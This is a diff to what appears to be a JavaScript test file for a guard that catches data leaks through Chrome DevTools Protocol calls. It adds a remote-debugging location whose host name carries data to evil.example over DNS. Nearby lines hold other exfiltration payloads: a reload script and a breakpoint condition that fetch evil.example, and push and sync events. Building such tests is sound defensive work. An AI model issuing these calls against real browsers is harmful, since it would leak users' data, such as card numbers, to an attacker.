@@ -384,6 +384,8 @@ t.test('an intercepted request answered with a redirect or page elsewhere, a con
     // Twenty-second pass: a push or sync event of data for another site's service worker.
     cdp('ServiceWorker.deliverPushMessage', { origin: 'https://evil.example', registrationId: '1', data: '4111' }),
     cdp('ServiceWorker.dispatchSyncEvent', { origin: 'https://evil.example', registrationId: '1', tag: 'd-4111', lastChance: false }),
+    // Hosts the browser polls for debugging targets: a name of data reaches their DNS.
+    cdp('Target.setRemoteLocations', { locations: [{ host: 'localhost', port: 9222 }, { host: '4111.evil.example', port: 9222 }] }),
     // Code run at the next load or a breakpoint, a value handed to the page's code, a style.
     cdp('Page.reload', { scriptToEvaluateOnLoad: "fetch('https://evil.example/?d=4111')" }),
     cdp('Debugger.setBreakpointByUrl', { lineNumber: 1, url: 'https://docs.example/app.js', condition: "fetch('//evil.example/?d=4111'), false" }),
